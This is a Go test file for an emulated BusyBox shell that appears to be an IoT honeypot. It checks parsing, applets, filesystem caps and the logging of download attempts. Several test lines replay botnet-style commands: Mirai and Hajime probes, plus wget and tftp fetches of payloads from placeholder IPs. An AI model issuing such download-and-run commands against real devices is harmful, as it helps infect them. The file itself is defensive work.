package busybox

import (
	"bytes"
	"context"
	"debug/elf"
	"errors"
	"fmt"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"
)

func testShell(t *testing.T, arch string) *Shell {
	t.Helper()
	p := DefaultProfile()
	p.Arch = arch
	return newShell(newDevice(p, DefaultLimits()))
}

// dump renders a parsed line compactly, for tests.
func dump(l *list) string {
	var sb strings.Builder
	for i, ao := range l.items {
		if i > 0 {
			sb.WriteString("; ")
		}
		for j, pl := range ao.pipes {
			if j > 0 {
				sb.WriteString(" " + ao.ops[j-1] + " ")
			}
			if pl.neg {
				sb.WriteString("! ")
			}
			for k, c := range pl.cmds {
				if k > 0 {
					sb.WriteString(" | ")
				}
				sb.WriteString(dumpCmd(c))
			}
		}
	}
	return sb.String()
}

func dumpWords(ws []word) string {
	var s []string
	for _, w := range ws {
		s = append(s, w.String())
	}
	return strings.Join(s, " ")
}

func dumpCmd(c *shCmd) string {
	var s string
	switch c.kind {
	case cSimple:
		s = "[" + dumpWords(c.assign)
		if len(c.assign) > 0 && len(c.args) > 0 {
			s += " "
		}
		s += dumpWords(c.args)
	case cGroup:
		s = "{" + dump(c.body)
	case cSubshell:
		s = "(" + dump(c.body)
	case cIf:
		s = "if"
		for i := range c.conds {
			s += " " + dump(c.conds[i]) + " then " + dump(c.thens[i])
		}
		if c.body != nil {
			s += " else " + dump(c.body)
		}
	case cWhile, cUntil:
		s = "while " + dump(c.cond) + " do " + dump(c.body)
		if c.kind == cUntil {
			s = "until" + s[5:]
		}
	case cFor:
		s = "for " + c.name + " in " + dumpWords(c.args) + " do " + dump(c.body)
	}
	for _, r := range c.redirs {
		fd := ""
		if r.fd != 1 && r.fd != 0 {
			fd = strconv.Itoa(r.fd)
		}
		s += " " + fd + r.op + r.target.String()
	}
	return s + "]"
}

func TestParseLine(t *testing.T) {
	for _, tc := range []struct {
		line, want string
	}{
		{`a b; c && d || e | f`, `[a b]; [c] && [d] || [e] | [f]`},
		{`echo 'a b' "c\"d" e\ f`, `[echo a b c"d e f]`},
		{`echo "\x41"`, `[echo \x41]`},
		{`>dvrHelper`, `[ >dvrHelper]`},
		{`./.s>.i; x 2>/dev/null`, `[./.s >.i]; [x 2>/dev/null]`},
		{`cmd >/dev/null 2>&1 &`, `[cmd >/dev/null 2>&1]`},
		{`(cat .s || cp /bin/echo .s)`, `([cat .s] || [cp /bin/echo .s]]`},
		{`echo hi # comment`, `[echo hi]`},
		{`a;`, `[a]`},
		{`X=1 Y=$HOME cmd $X "${Y}" '$Z'`, `[X=1 Y=${HOME} cmd ${X} ${Y} $Z]`},
		{`echo $(id) ` + "`uname -m`", `[echo $(...) $(...)]`},
		{`if a; then b; elif c; then d; else e; fi > f`, `if [a] then [b] [c] then [d] else [e] >f]`},
		{`for i in a b c; do echo $i; done`, `for i in a b c do [echo ${i}]]`},
		{`while read i; do echo $i; done < .s`, `while [read i] do [echo ${i}] <.s]`},
		{`a || { b; c; }`, `[a] || {[b]; [c]]`},
		{`! grep x f`, `! [grep x f]`},
		{`echo if then fi`, `[echo if then fi]`},
		// A here-document's body follows its line (alone, "cat <<EOF" is
		// unfinished: see TestUnfinishedLines).
		{"cat <<EOF\nbody\nEOF", `[cat <<EOF]`},
	} {
		l, err := parseLine(tc.line)
		if err != nil {
			t.Errorf("%q: %v", tc.line, err)
			continue
		}
		if got := dump(l); got != tc.want {
			t.Errorf("%q parsed as %s, want %s", tc.line, got, tc.want)
		}
	}
	for line, msg := range map[string]string{
		`echo 'abc`:              "sh: syntax error: unterminated quoted string",
		`; ls`:                   `sh: syntax error: unexpected ";"`,
		`ls &&`:                  "sh: syntax error: unexpected end of file",
		`ls >`:                   "sh: syntax error: unexpected newline",
		`;;`:                     `sh: syntax error: unexpected ";;"`,
		`if true; then echo yes`: `sh: syntax error: unexpected end of file (expecting "fi")`,
		`fi`:                     `sh: syntax error: unexpected "fi"`,
		`while true; echo; done`: `sh: syntax error: unexpected "done" (expecting "do")`,
		`( ls`:                   `sh: syntax error: unexpected end of file (expecting ")")`,
		`{ ls; `:                 `sh: syntax error: unexpected end of file (expecting "}")`,
		strings.Repeat("echo $(", maxSubst+1) + "x" + strings.Repeat(")", maxSubst+1): errTooComplex.Error(),
	} {
		if _, err := parseLine(line); err == nil || err.Error() != msg {
			t.Errorf("%q: error %v, want %q", line, err, msg)
		}
	}
	if _, err := parseLine(strings.Repeat("a;", maxCommands)); err != nil {
		t.Errorf("%d commands refused: %v", maxCommands, err)
	}
	if _, err := parseLine(strings.Repeat("a;", maxCommands+1)); !errors.Is(err, errTooComplex) {
		t.Errorf("too many commands: %v", err)
	}
	// Nesting is bounded: deep parentheses cost no deep recursion.
	if _, err := parseLine(strings.Repeat("(", 4000) + "a" + strings.Repeat(")", 4000)); err == nil {
		t.Error("4000 nested subshells accepted")
	}
}

func TestShellCommands(t *testing.T) {
	sh := testShell(t, "mipsel")
	ctx := context.Background()
	for _, tc := range []struct{ line, want string }{
		{`echo -ne '\x6b\x61\x6d\x69'`, "kami"},
		{`echo -e '\0101\102\n'`, "AB\n\n"},
		{`echo -n a b`, "a b"},
		{`echo -e 'a\cb'`, "a"},
		{`echo \x41`, "x41\n"},
		{`uname -m`, "mips\n"},
		{`cd /tmp; echo hi > f; cat f; echo there >> f; cat f | wc -l`, "hi\n2\n"},
		{`cat nope 2>/dev/null || echo missing`, "missing\n"},
		{`ls /nope >/dev/null 2>&1 && echo yes || echo no`, "no\n"},
		{`cd /tmp; mkdir -p a/b; touch a/b/c; ls a/b; rm -rf a; ls`, "c\nf\n"},
		{`cd /tmp; cp /bin/busybox bb; chmod 644 bb; ./bb`, "sh: ./bb: Permission denied\n"},
		{`cd /tmp; rm f bb; ls *`, "ls: *: No such file or directory\n"},
		{`cd /tmp; touch x1 x2; echo x*`, "x1 x2\n"},
		{`nope`, "sh: nope: not found\n"},
		{`/bin/busybox nope`, "nope: applet not found\n"},
		{`busybox echo ok`, "ok\n"},
		{`cat /proc/cpuinfo | grep -c processor`, "1\n"},
		{`head -n 1 /etc/passwd`, "root:x:0:0:root:/:/bin/sh\n"},
		{`dd if=/bin/busybox bs=4 count=1 2>/dev/null`, "\x7fELF"},
		{`echo x > /etc/passwd`, "sh: can't create /etc/passwd: Read-only file system\n"},
		{`cd /nowhere`, "sh: cd: can't cd to /nowhere\n"},
		{`test -d /tmp && echo dir`, "dir\n"},
		{`which wget`, "/usr/bin/wget\n"},
	} {
		if got := string(sh.run(ctx, tc.line)); got != tc.want {
			t.Errorf("%s\n got %q\nwant %q", tc.line, got, tc.want)
		}
	}
}

func TestOverlayCaps(t *testing.T) {
	sh := testShell(t, "arm")
	ctx := context.Background()
	big := strings.Repeat("A", 4000)
	var out []byte
	for i := 0; i < 300; i++ {
		out = sh.run(ctx, "echo "+big+" > /tmp/f"+strings.Repeat("x", i%5)+string(rune('a'+i%26))+string(rune('a'+i/26)))
	}
	if !bytes.Contains(out, []byte("No space left on device")) {
		t.Fatalf("no ENOSPC after 300 files: %q", out)
	}
	if sh.fs.files > maxOverlayFiles || sh.fs.bytes > maxOverlayBytes {
		t.Fatalf("overlay over its caps: %d files, %d bytes", sh.fs.files, sh.fs.bytes)
	}
	sh.run(ctx, "rm -rf /tmp/*")
	if sh.fs.files != 0 || sh.fs.bytes != 0 {
		t.Fatalf("after rm: %d files, %d bytes", sh.fs.files, sh.fs.bytes)
	}
	// A fresh shell shares the base and has no overlay until it writes.
	if fresh := testShell(t, "arm"); fresh.fs.ov != nil {
		t.Fatal("overlay allocated before the first write")
	}
}

func TestELFPerArch(t *testing.T) {
	want := map[string]struct {
		class   elf.Class
		data    elf.Data
		machine elf.Machine
	}{
		"arm": {elf.ELFCLASS32, elf.ELFDATA2LSB, elf.EM_ARM}, "armv7": {elf.ELFCLASS32, elf.ELFDATA2LSB, elf.EM_ARM},
		"mips": {elf.ELFCLASS32, elf.ELFDATA2MSB, elf.EM_MIPS}, "mipsel": {elf.ELFCLASS32, elf.ELFDATA2LSB, elf.EM_MIPS},
		"x86": {elf.ELFCLASS32, elf.ELFDATA2LSB, elf.EM_386}, "x86_64": {elf.ELFCLASS64, elf.ELFDATA2LSB, elf.EM_X86_64},
		"powerpc": {elf.ELFCLASS32, elf.ELFDATA2MSB, elf.EM_PPC}, "sh4": {elf.ELFCLASS32, elf.ELFDATA2LSB, elf.EM_SH},
		"m68k": {elf.ELFCLASS32, elf.ELFDATA2MSB, elf.EM_68K}, "sparc": {elf.ELFCLASS32, elf.ELFDATA2MSB, elf.EM_SPARC},
	}
	for _, arch := range Arches() {
		sh := testShell(t, arch)
		img := sh.run(context.Background(), "cat /bin/echo")
		f, err := elf.NewFile(bytes.NewReader(img))
		if err != nil {
			t.Fatalf("%s: %v", arch, err)
		}
		w := want[arch]
		if f.Class != w.class || f.Data != w.data || f.Machine != w.machine || f.Type != elf.ET_EXEC || len(f.Progs) != 1 {
			t.Errorf("%s: got %v %v %v %v, want %v %v %v", arch, f.Class, f.Data, f.Machine, f.Type, w.class, w.data, w.machine)
		}
		// Mirai's loader finds the header by searching for "ELF".
		if n := bytes.Count(img, []byte("ELF")); n != 1 {
			t.Errorf("%s: %d occurrences of ELF", arch, n)
		}
		if arch == "armv7" && !bytes.Contains(sh.run(context.Background(), "cat /proc/cpuinfo"), []byte("ARMv7")) {
			t.Error("armv7 cpuinfo lacks ARMv7")
		}
	}
}

// runAll runs lines in one shell and checks each answer.
func runAll(t *testing.T, sh *Shell, cases []struct{ line, want string }) {
	t.Helper()
	for _, tc := range cases {
		if got := string(sh.run(context.Background(), tc.line)); got != tc.want {
			t.Errorf("%s\n got %q\nwant %q", tc.line, got, tc.want)
		}
	}
}

func TestGlobBudget(t *testing.T) {
	sh := testShell(t, "arm")
	ctx := context.Background()
	// The worst case: the overlay full of long names, long patterns that
	// make path.Match work hardest, as many words as a line can hold.
	for i := 0; i < maxOverlayFiles; i++ {
		name := fmt.Sprintf("/tmp/%03d%s", i, strings.Repeat("a", maxNameLen-3))
		if out := sh.run(ctx, "touch "+name); len(out) != 0 {
			t.Fatalf("touch %d: %q", i, out)
		}
	}
	pat := "/tmp/*" + strings.Repeat("a", 250) + "b"
	line := "ls " + strings.TrimSpace(strings.Repeat(pat+" ", (maxLine-3)/(len(pat)+1)))
	start := time.Now()
	for i := 0; i < 3; i++ {
		sh.run(ctx, line)
		sh.run(ctx, "ls"+strings.Repeat(" /tmp/*", (maxLine-2)/7))
	}
	// The race detector multiplies the cost of every memory access: the
	// bound is the code's, without it.
	if d := time.Since(start) / 6; d > 150*time.Millisecond*raceFactor() {
		t.Errorf("a glob-heavy line takes %v", d)
	}
	if sh.globWords > maxGlobWords || sh.globCost > maxGlobCost {
		t.Errorf("budget overrun: %d words, %d units", sh.globWords, sh.globCost)
	}
	// Past the budget, patterns stay as written.
	sh = testShell(t, "arm")
	sh.run(ctx, "touch /tmp/x1")
	out := string(sh.run(ctx, "echo"+strings.Repeat(" /tmp/x*", maxGlobWords+2)))
	if want := strings.Repeat("/tmp/x1 ", maxGlobWords) + "/tmp/x* /tmp/x*\n"; out != want {
		t.Errorf("got %q, want %q", out, want)
	}
}

func TestNameTooLong(t *testing.T) {
	sh := testShell(t, "arm")
	long := "/tmp/" + strings.Repeat("n", maxNameLen+1)
	ok := "/tmp/" + strings.Repeat("n", maxNameLen)
	runAll(t, sh, []struct{ line, want string }{
		{"echo x > " + long, "sh: can't create " + long + ": File name too long\n"},
		{"touch " + long, "touch: " + long + ": File name too long\n"},
		{"cat " + long, "cat: can't open '" + long + "': File name too long\n"},
		{"echo x > " + ok + "; cat " + ok, "x\n"},
	})
}

func TestOverlayPool(t *testing.T) {
	dev := newDevice(DefaultProfile(), DefaultLimits())
	dev.pool = newOverlayPool(10 << 10)
	a, b := newShell(dev), newShell(dev)
	ctx := context.Background()
	six := strings.Repeat("A", 6<<10)
	if out := a.run(ctx, "echo "+six+" > /tmp/a"); len(out) != 0 {
		t.Fatalf("a: %q", out)
	}
	if out := string(b.run(ctx, "echo "+six+" > /tmp/b")); out != "sh: write error: No space left on device\n" {
		t.Fatalf("b past the pool: %q", out)
	}
	if out := string(b.run(ctx, "dd if=/dev/zero of=/tmp/c bs=1k count=8 2>&1 | head -n 1")); out != "dd: writing '/tmp/c': No space left on device\n" {
		t.Fatalf("dd past the pool: %q", out)
	}
	a.close()
	a.close() // idempotent
	if out := b.run(ctx, "echo "+six+" > /tmp/b"); len(out) != 0 {
		t.Fatalf("b after a closed: %q", out)
	}
	b.run(ctx, "rm /tmp/b /tmp/c")
	if n := dev.pool.used.Load(); n != 0 {
		t.Fatalf("pool holds %d bytes after rm", n)
	}
	b.run(ctx, "echo hi > /tmp/b")
	b.close()
	if n := dev.pool.used.Load(); n != 0 {
		t.Fatalf("pool holds %d bytes after every session closed", n)
	}
	if got, want := newDevice(DefaultProfile(), DefaultLimits()).pool.limit, int64(256<<20); got != want {
		t.Fatalf("default pool %d, want %d", got, want)
	}
}

// TestOverlayPoolCleanup: a shell dropped without close gives its bytes
// back once collected.
func TestOverlayPoolCleanup(t *testing.T) {
	dev := newDevice(DefaultProfile(), DefaultLimits())
	func() {
		sh := newShell(dev)
		sh.run(context.Background(), "echo hello > /tmp/x")
	}()
	for i := 0; i < 50 && dev.pool.used.Load() != 0; i++ {
		runtime.GC()
		time.Sleep(time.Millisecond)
	}
	if n := dev.pool.used.Load(); n != 0 {
		t.Fatalf("pool holds %d bytes of a collected shell", n)
	}
}

func TestGrepWcStream(t *testing.T) {
	sh := testShell(t, "arm")
	// A 1 MiB file of short lines.
	line := strings.Repeat("x", 15) + "\n"
	sh.fs.write("/tmp/big", []byte(strings.Repeat(line, (1<<20)/len(line))), false)
	runAll(t, sh, []struct{ line, want string }{
		{"grep -c x /tmp/big", "65536\n"},
		{"grep -c y /tmp/big", "0\n"},
		{"grep -ci X /tmp/big", "65536\n"},
		// One count is printed bare, file or not (BusyBox's wc, as Debian's
		// busybox prints "27 /etc/passwd").
		{"wc -l /tmp/big", "65536 /tmp/big\n"},
		{"wc /tmp/big", "    65536     65536   1048576 /tmp/big\n"},
		{"cat /etc/passwd | wc", "        4         4       136\n"},
		{"grep -n daemon /etc/passwd", "2:daemon:x:1:1:daemon:/usr/sbin:/bin/false\n"},
		{"grep 'ro*t:x' /etc/passwd", "root:x:0:0:root:/:/bin/sh\n"},
		{"grep -v -e false /etc/passwd /etc/group", "/etc/passwd:root:x:0:0:root:/:/bin/sh\n/etc/group:root:x:0:\n/etc/group:daemon:x:1:\n/etc/group:nobody:x:99:\n"},
		{"grep -q root /etc/passwd && echo found", "found\n"},
	})
	io := &stdio{out: &limitBuf{max: maxOutput}, err: &limitBuf{max: maxOutput}}
	for _, args := range [][]string{{"grep", "-c", "x", "/tmp/big"}, {"wc", "/tmp/big"}} {
		allocs := testing.AllocsPerRun(3, func() {
			io.out.b = io.out.b[:0]
			sh.applet(args[0], args, io)
		})
		if allocs > 20 {
			t.Errorf("%v: %v allocations over a 1 MiB file", args, allocs)
		}
	}
}

func TestParameters(t *testing.T) {
	sh := testShell(t, "arm")
	runAll(t, sh, []struct{ line, want string }{
		{`echo $HOME $PATH $PWD $USER $SHELL $0 $$`, "/ /bin:/sbin:/usr/bin:/usr/sbin / root /bin/sh -sh 651\n"},
		{`false; echo $?; echo $?`, "1\n0\n"},
		{`nope 2>/dev/null; echo $?`, "127\n"},
		{`X=1; echo $X "$X" '$X' ${X} "${X}x" $UNSET.`, "1 1 $X 1 1x .\n"},
		{`echo $X`, "1\n"}, // assignments last the session
		{`export Y=two; env | grep Y=`, "Y=two\n"},
		{`Z=3; env | grep Z=`, ""},
		{`echo ${NOPE:-default} ${HOME:+set} ${NOPE-x}`, "default set x\n"},
		{`A="a  b"; echo $A; echo "$A"`, "a b\na  b\n"},
		{`cd /tmp; echo $PWD $OLDPWD; cd -`, "/tmp /\n/\n"},
		{`unset HOME; echo x${HOME}x`, "xx\n"},
		{`echo "$"x '\$' \$y`, "$x \\$ $y\n"},
	})
}

func TestCommandSubstitution(t *testing.T) {
	sh := testShell(t, "mips")
	runAll(t, sh, []struct{ line, want string }{
		{`echo $(uname -m) ` + "`whoami`", "mips root\n"},
		{`echo "$(echo 'a   b')" $(echo 'a   b')`, "a   b a b\n"},
		{`X=$(echo hi); echo $X`, "hi\n"},
		{`X=$(false); echo $?`, "1\n"},
		{`echo $(echo $(echo two))`, "two\n"},
		{`echo $(cd /tmp; pwd); pwd`, "/tmp\n/\n"}, // a subshell
		{`echo $(exit 3)x`, "x\n"},
		{`echo $(echo $(echo $(echo three)))`, "three\n"},
		{strings.Repeat("echo $(", maxSubst) + "echo deep" + strings.Repeat(")", maxSubst), "deep\n"},
		{`echo $(cat /dev/zero | wc -c)`, "65536\n"},
		{`echo $(wget http://203.0.113.9/x.sh -O -)`, "Connecting to 203.0.113.9 (203.0.113.9:80)\n-                    100% |*******************************|    10  0:00:00 ETA\n#!/bin/sh\n"},
	})
	if len(sh.downloads) != 1 || sh.downloads[0].URL != "http://203.0.113.9/x.sh" {
		t.Errorf("downloads in $( ): %+v", sh.downloads)
	}
	// Output is bounded.
	if out := sh.run(context.Background(), `echo $(yes) $(yes) $(yes)`); len(out) > maxOutput {
		t.Errorf("%d bytes", len(out))
	}
}

func TestControlStructures(t *testing.T) {
	sh := testShell(t, "arm")
	runAll(t, sh, []struct{ line, want string }{
		{`if true; then echo yes; fi`, "yes\n"},
		{`if false; then echo a; elif false; then echo b; else echo c; fi`, "c\n"},
		{`if [ -d /tmp ]; then cd /tmp; fi; pwd`, "/tmp\n"},
		{`for x in a b c; do echo $x; done`, "a\nb\nc\n"},
		{`cd /tmp; touch f1 f2; for f in f*; do echo "<$f>"; done`, "<f1>\n<f2>\n"},
		{`for i in 1 2 3; do [ $i = 2 ] && continue; echo $i; done`, "1\n3\n"},
		{`for i in 1 2 3; do echo $i; break; done`, "1\n"},
		{`printf 'a\nb\nc\n' > /tmp/l; while read l; do echo "[$l]"; done < /tmp/l`, "[a]\n[b]\n[c]\n"},
		{`echo x y | while read a b; do echo $b $a; done`, "y x\n"},
		// An endless loop never ends: wc is still waiting (see stall.go).
		{`while true; do echo y; done | wc -l`, ""},
		{`i=0; until [ $i = 1 ]; do echo loop; i=1; done`, "loop\n"},
		{`false || (echo b; echo c)`, "b\nc\n"},
		{`true || (echo b; echo c)`, ""},
		{`true || { echo b; echo c; }; echo d`, "d\n"},
		{`(cd /; X=sub); echo $X; pwd`, "\n/tmp\n"},
		{`{ echo a; echo b; } | wc -l`, "2\n"},
		{`{ echo err >&2; } 2>/dev/null`, ""},
		{`! true; echo $?`, "1\n"},
		{`if true; then echo unterminated`, "sh: syntax error: unexpected end of file (expecting \"fi\")\n"},
	})
}

// TestHajimeFallbacks: Hajime reads .s with dd, and only if that fails with
// cat or a read loop; dd working, only its output may show.
func TestHajimeFallbacks(t *testing.T) {
	sh := testShell(t, "arm")
	sh.run(context.Background(), "cd /var; cp /bin/echo .s")
	out := string(sh.run(context.Background(), "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s"))
	want := string(sh.dev.busybox[:52]) + "1+0 records in\n1+0 records out\n52 bytes (52B) copied, 0.000125 seconds, 405.5KB/s\n"
	if out != want {
		t.Errorf("got %q\nwant %q", out, want)
	}
}

func TestCommandLimit(t *testing.T) {
	sh := testShell(t, "arm")
	ctx := context.Background()
	if out := string(sh.run(ctx, strings.Repeat("true;", 511)+"echo ok")); out != "ok\n" {
		t.Errorf("512 commands: %q", out)
	}
	// Past the parser's bounds nothing is printed: the line "runs" on
	// (see stall.go).
	if r := sh.Run(strings.Repeat("true;", 512) + "echo ok"); len(r.Output) != 0 || r.Limit != "parse" || !r.Running {
		t.Errorf("513 commands: %q, limit %q, running %v", r.Output, r.Limit, r.Running)
	}
	sh.Interrupt()
	// Loops multiply commands: the line stops at its step budget.
	start := time.Now()
	sh.run(ctx, "while true; do while true; do while true; do cat /etc/passwd | grep root | wc -l; done; done; done")
	if d := time.Since(start); d > 500*time.Millisecond*raceFactor() {
		t.Errorf("nested loops ran for %v", d)
	}
	if sh.steps > maxSteps+1 {
		t.Errorf("%d steps", sh.steps)
	}
}

func TestVendorCLIAndNesting(t *testing.T) {
	sh := testShell(t, "arm")
	runAll(t, sh, []struct{ line, want string }{
		{"enable", "sh: enable: not found\n"},
		{"system", "sh: system: not found\n"},
		{"shell", "sh: shell: not found\n"},
		{"linuxshell", "sh: linuxshell: not found\n"},
		{"sh", ""},
		{"sh", ""},
		{"echo $0; ps | grep sh", "sh\n  651 root      1500 S    -sh\n  652 root      1500 S    sh\n  653 root      1500 S    sh\n"},
		{"exit; echo lost", ""},
		{"exit", ""},
	})
	if sh.exited {
		t.Fatal("exit in a nested sh ended the session")
	}
	sh.run(context.Background(), "exit")
	if !sh.exited {
		t.Fatal("exit in the login shell did not end the session")
	}
	// Neither a piped sh nor one in $( ) nests.
	sh = testShell(t, "arm")
	sh.run(context.Background(), "echo ls | sh; echo $(sh)")
	if sh.run(context.Background(), "exit"); !sh.exited {
		t.Fatal("a piped sh counted as nesting")
	}
}

// TestProcPids: every process ps shows has its /proc directory.
func TestProcPids(t *testing.T) {
	sh := testShell(t, "arm")
	runAll(t, sh, []struct{ line, want string }{
		{"cat /proc/577/cmdline", "/var/Sofia\x00"},
		{"cat /proc/651/cmdline", "-sh\x00"},
		{"ls -d /proc/540 /proc/1", "/proc/1  /proc/540\n"}, // sorted, in columns on a terminal, as BusyBox does
	})
}

func TestPseudoFilesystems(t *testing.T) {
	sh := testShell(t, "arm")
	runAll(t, sh, []struct{ line, want string }{
		{"echo x > /dev/pts/.nippon", "sh: can't create /dev/pts/.nippon: Permission denied\n"},
		{"echo x > /proc/.nippon", "sh: can't create /proc/.nippon: Permission denied\n"},
		{"echo x > /sys/.nippon", "sh: can't create /sys/.nippon: Permission denied\n"},
		{"mkdir /proc/x", "mkdir: can't create directory '/proc/x': Permission denied\n"},
		{"echo x > /dev/.nippon; cat /dev/.nippon", "x\n"},
		{"grep -c pts /proc/mounts", "1\n"},
		{"cat < /nonexistent", "sh: can't open /nonexistent: no such file\n"},
		{"echo x > /nodir/f", "sh: can't create /nodir/f: nonexistent directory\n"},
	})
}

func TestDevices(t *testing.T) {
	sh := testShell(t, "arm")
	runAll(t, sh, []struct{ line, want string }{
		{"head -c 16 /dev/urandom | wc -c", "16\n"},
		{"cat /dev/urandom | head -c 16 | wc -c", "16\n"},
		{"cat /dev/zero | wc -c", "65536\n"},
		{"yes | head -n 3", "y\ny\ny\n"},
		{"yes no | head -n 1", "no\n"},
		{"cat /dev/null | wc -c", "0\n"},
		{"dd if=/dev/zero bs=1k count=2 2>/dev/null | wc -c", "2048\n"},
	})
}

func TestDD(t *testing.T) {
	sh := testShell(t, "arm")
	runAll(t, sh, []struct{ line, want string }{
		{"dd if=/dev/zero of=/tmp/z bs=1k count=3", "3+0 records in\n3+0 records out\n3072 bytes (3.0KB) copied, 0.000428 seconds, 6.8MB/s\n"},
		{"ls -l /tmp/z", "-rw-r--r--    1 root     root         3072 Jan  1 00:00 /tmp/z\n"},
		{"echo abc | dd 2>/dev/null", "abc\n"},
		{"echo abcdef | dd bs=2 skip=1 count=2 2>&1", "cdef2+0 records in\n2+0 records out\n4 bytes (4B) copied, 0.000120 seconds, 32.4KB/s\n"},
		{"dd if=/dev/zero of=/tmp/big bs=1M count=100", "dd: writing '/tmp/big': No space left on device\n1+0 records in\n0+1 records out\n1045504 bytes (1021.0KB) copied, 0.105075 seconds, 9.5MB/s\n"},
		{"rm /tmp/big /tmp/z; dd if=/dev/zero of=/tmp/big bs=1M count=100", "dd: writing '/tmp/big': No space left on device\n2+0 records in\n1+0 records out\n1048576 bytes (1.0MB) copied, 0.105383 seconds, 9.5MB/s\n"},
		{"dd if=/nope", "dd: can't open '/nope': No such file or directory\n"},
	})
	if sh.fs.bytes > maxOverlayBytes {
		t.Fatalf("overlay %d bytes", sh.fs.bytes)
	}
}

func TestFetchIntentOnFailure(t *testing.T) {
	sh := testShell(t, "arm")
	out := string(sh.run(context.Background(), "cd /tmp; tftp 192.0.2.10 -c get tftp1.sh"))
	want := "tftp: invalid option -- 'c'\n" + sh.dev.bannerLine() + "\n\nUsage: tftp [OPTIONS] HOST [PORT]\n\n"
	if out != want {
		t.Errorf("got %q\nwant %q", out, want)
	}
	if len(sh.downloads) != 1 || sh.downloads[0] != (Download{"tftp://192.0.2.10/tftp1.sh", "tftp", "/tmp/tftp1.sh", true}) {
		t.Errorf("downloads %+v", sh.downloads)
	}
	if _, ok := sh.fs.stat("/tmp/tftp1.sh"); ok {
		t.Error("a failed tftp left a file")
	}
	// Into a read-only directory: wget fails, the URL is recorded.
	sh.run(context.Background(), "cd /; wget http://192.0.2.11/x.arm")
	if len(sh.downloads) != 1 || sh.downloads[0].URL != "http://192.0.2.11/x.arm" {
		t.Errorf("downloads %+v", sh.downloads)
	}
}

func TestUsageAndHelp(t *testing.T) {
	sh := testShell(t, "arm")
	ctx := context.Background()
	if out := string(sh.run(ctx, "wget")); out != sh.dev.bannerLine()+"\n\nUsage: wget "+wgetUsage+"\n\n" {
		t.Errorf("wget: %q", out)
	}
	if out := sh.run(ctx, "busybox 2>/dev/null"); len(out) != 0 {
		t.Errorf("busybox help on stdout: %q", out)
	}
	help := string(sh.run(ctx, "busybox"))
	_, list, _ := strings.Cut(help, "Currently defined functions:\n")
	lines := strings.Split(strings.TrimSuffix(list, "\n\n"), "\n")
	if len(lines) < 5 {
		t.Fatalf("applet list not wrapped: %q", list)
	}
	for i, l := range lines {
		if !strings.HasPrefix(l, "\t") || len(l)+7 > 80 || (i < len(lines)-1) != strings.HasSuffix(l, ",") {
			t.Errorf("line %q", l)
		}
	}
	if out := string(sh.run(ctx, "help")); !strings.HasPrefix(out, "Built-in commands:\n------------------\n\t. : [ [[ alias") {
		t.Errorf("help: %q", out)
	}
	if out := string(sh.run(ctx, "/bin/busybox ps | tail -n 2")); out != "  651 root      1500 S    -sh\n  652 root      1496 R    /bin/busybox ps\n" {
		t.Errorf("ps: %q", out)
	}
}

// Regression (review): a variable holding an escaped glob that ends in "/"
// reached the glob with an empty base name and panicked on a dot-file.
func TestGlobEscapedDirNoPanic(t *testing.T) {
	sh := newShell(newDevice(DefaultProfile(), DefaultLimits()))
	defer sh.close()
	ctx := context.Background()
	for _, l := range []string{`mkdir '/tmp/*'`, `touch '/tmp/*/.x'`, `V='/tmp/\*/'`} {
		sh.run(ctx, l)
	}
	if out := string(sh.run(ctx, `echo $V`)); out != "/tmp/\\*/\n" && out != "/tmp/*/\n" {
		t.Errorf("echo $V = %q", out)
	}
}

// Regression (review): one word may not expand past the variable cap.
func TestExpansionBounded(t *testing.T) {
	sh := newShell(newDevice(DefaultProfile(), DefaultLimits()))
	defer sh.close()
	ctx := context.Background()
	sh.run(ctx, `X=$(cat /dev/zero)`)
	sh.run(ctx, `X=$X$X$X`)
	out := sh.run(ctx, `echo "`+strings.Repeat("$X", 2000)+`"`)
	if len(out) > maxVarBytes {
		t.Errorf("%d bytes of output from one word, over the %d cap", len(out), maxVarBytes)
	}
	if sh.work > 2*maxWork {
		t.Errorf("work %d ran far past the line budget %d", sh.work, maxWork)
	}
}
